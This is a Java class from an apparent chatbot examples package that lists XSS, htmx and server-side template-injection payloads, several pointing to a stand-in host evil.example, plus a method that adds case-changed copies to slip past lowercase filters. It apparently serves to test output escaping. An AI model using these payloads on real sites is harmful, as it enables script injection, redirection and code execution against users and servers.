package io.hotprompt.examples.chatbot;

import java.util.ArrayList;
import java.util.List;

/** Text that runs as script wherever somebody forgot to escape it. */
final class Payloads {

    private static final List<String> SHAPES = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "\"><svg onload=alert(1)>",
            "'><svg onload=alert(1)>",
            "</textarea><script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "</script><script>alert(1)</script>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<body onload=alert(1)>",
            "<math><mtext></mtext><img src onerror=alert(1)></math>",
            "\" autofocus onfocus=\"alert(1)",
            "' onmouseover='alert(1)",
            "[[${7*7}]]",
            "[(${T(java.lang.Runtime)})]",
            "__${7*7}__::x",
            "${7*7} #{7*7} *{7*7}",
            "<div hx-get=\"/admin/users\" hx-trigger=\"load\"></div>",
            "<div hx-on::load=\"alert(1)\"></div>",
            "<base href=\"//evil.example/\">",
            "<style>*{display:none}</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<form action=//evil.example><button>x</button></form>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "--><script>alert(1)</script>",
            "]]><script>alert(1)</script>");

    private Payloads() {}

    /** Each shape as it is and in capitals, as some filters look for lower case only. */
    static List<String> all() {
        List<String> all = new ArrayList<>(SHAPES);
        SHAPES.forEach(shape -> all.add(shape.replace("script", "ScRiPt").replace("alert(1)", "confirm(2)") + " <b>"));
        return List.copyOf(all);
    }
}
